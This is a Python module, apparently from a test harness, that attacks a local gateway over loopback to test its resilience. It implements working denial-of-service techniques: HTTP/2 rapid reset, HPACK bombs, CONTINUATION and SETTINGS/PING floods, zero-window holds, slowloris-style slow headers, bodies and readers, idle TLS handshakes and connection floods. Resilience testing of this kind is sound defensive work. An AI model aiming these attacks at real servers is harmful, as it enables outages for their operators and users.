"""Attacks from a bounded number of connections, as a process of its own.

python -m harness.attacker NAME COUNT PORT TLS_PORT HOST says a line when all connections have begun, goes on until its
input ends, and then says how many attempts it has made.
"""

import contextlib
import functools
import itertools
import socket
import struct
import sys
import threading

from . import ports
from .frames import (
    ACK,
    CONTINUATION,
    END_HEADERS,
    END_STREAM,
    PING,
    RST_STREAM,
    block,
    data,
    frame,
    head,
    literal,
    settings,
    word,
)
from .http2_client import PREFACE
from .tls_hello import client_hello

IDLE_SECONDS = 5  # that an attacker waits for the gateway's next word
STEP_SECONDS = 0.1  # between single bytes
LARGE = "/bytes/20000000"
FLOODS = ("rapid_reset", "hpack_bombs", "continuations", "settings_frames", "pings", "empty_data")


class Attacker:
    """What the attacks share: where to, until when, and the count of attempts."""

    def __init__(self, port, tls_port, host):
        self.port = port
        self.tls_port = tls_port
        self.host = host
        self.is_over = threading.Event()
        self.attempts = itertools.count()
        get = ((b":method", b"GET"), (b":scheme", b"http"), (b":authority", host.encode()))
        self.get = (*get, (b":path", b"/get"))
        self.get_large = (*get, (b":path", LARGE.encode()))
        self.post = ((b":method", b"POST"), *get[1:], (b":path", b"/count"))

    @contextlib.contextmanager
    def connect(self, *, tls_port=False, receive_buffer=None, resets=False):
        with socket.socket() as connection:
            if receive_buffer:
                connection.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, receive_buffer)
            if resets:
                connection.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
            connection.settimeout(IDLE_SECONDS)
            connection.connect((ports.LOOPBACK, self.tls_port if tls_port else self.port))
            next(self.attempts)
            yield connection

    def flood(self, frames):
        """Sends them again and again, each time on a new connection, for as long as the gateway takes them."""
        with self.connect() as connection:
            reader = threading.Thread(target=self.read_off, args=(connection,), daemon=True)
            reader.start()
            with contextlib.suppress(OSError):
                connection.sendall(PREFACE + settings() + frames)
                connection.shutdown(socket.SHUT_WR)
            reader.join(IDLE_SECONDS)

    def read_off(self, connection):
        with contextlib.suppress(OSError):
            while connection.recv(65536) and not self.is_over.is_set():
                pass

    def hold(self, connection):
        """Until the end, without reading anything."""
        self.is_over.wait()
        connection.close()

    def drip(self, connection, first, rest):
        """A byte from time to time."""
        connection.sendall(first)
        for index in itertools.count():
            if self.is_over.wait(STEP_SECONDS):
                return
            connection.sendall(rest[index % len(rest) :][:1])

    # --- HTTP/2: what a flood consists of ---

    def rapid_reset(self):
        return b"".join(
            head(*self.get, stream=2 * n + 1) + frame(RST_STREAM, 0, 2 * n + 1, word(8)) for n in range(3000)
        )

    def hpack_bombs(self):
        """One entry of the table, named again and again (RFC 7541 7.3)."""
        first = head(*self.get, literal(b"x-a", b"b" * 3900, first=b"\x40"))
        return first + b"".join(head(*self.get, b"\xbe" * 16_000, stream=2 * n + 3) for n in range(100))

    def continuations(self):
        unfinished = head(*self.get, flags=END_STREAM)
        return unfinished + frame(CONTINUATION, 0, 1, block((b"x-a", b"b" * 16_000))) * 100

    def settings_frames(self):
        return (settings((4, 65535)) + settings((4, 65536))) * 10_000

    def pings(self):
        return frame(PING, payload=b"x" * 8) * 20_000 + frame(PING, ACK, payload=b"x" * 8) * 20_000

    def empty_data(self):
        return head(*self.post, flags=END_HEADERS) + data(flags=0) * 20_000

    # --- HTTP/2, HTTP/1, TLS, TCP: what one connection does ---

    def zero_windows(self):
        """Responses that nobody takes."""
        with self.connect() as connection:
            requests = b"".join(head(*self.get_large, stream=2 * n + 1) for n in range(20))
            connection.sendall(PREFACE + settings((4, 0)) + requests)
            self.hold(connection)

    def slow_heads(self):
        with self.connect() as connection:
            self.drip(connection, b"GET /get HTTP/1.1\r\nHost: " + self.host.encode() + b"\r\n", b"X-A: b\r\n")

    def slow_bodies(self):
        with self.connect() as connection:
            request = f"POST /count HTTP/1.1\r\nHost: {self.host}\r\nContent-Length: 1000000\r\n\r\n"
            self.drip(connection, request.encode(), b"x")

    def slow_readers(self):
        with self.connect(receive_buffer=4096) as connection:
            connection.sendall(f"GET {LARGE} HTTP/1.1\r\nHost: {self.host}\r\n\r\n".encode())
            self.hold(connection)

    def idle_handshakes(self):
        with self.connect(tls_port=True) as connection:
            connection.sendall(client_hello(0x0303, self.host)[:100])
            self.hold(connection)

    def connections(self):
        """As fast as they come; the reset leaves no TIME-WAIT behind."""
        for tls_port in (False, True):
            with self.connect(tls_port=tls_port, resets=True):
                pass

    # --- all of it ---

    def run(self, name, count):
        attack = getattr(self, name)
        if name in FLOODS:
            frames = attack()  # once: to make them takes longer than to send them
            attack = functools.partial(self.flood, frames)
        begun = threading.Barrier(count + 1)

        def repeat():
            with contextlib.suppress(threading.BrokenBarrierError):
                begun.wait()
            while not self.is_over.is_set():
                with contextlib.suppress(OSError):
                    attack()

        for _ in range(count):
            threading.Thread(target=repeat, daemon=True).start()
        begun.wait()
        print("begun", flush=True)
        sys.stdin.read()
        self.is_over.set()
        print(next(self.attempts), flush=True)


if __name__ == "__main__":
    _, chosen, connection_count, *where = sys.argv
    Attacker(int(where[0]), int(where[1]), where[2]).run(chosen, int(connection_count))
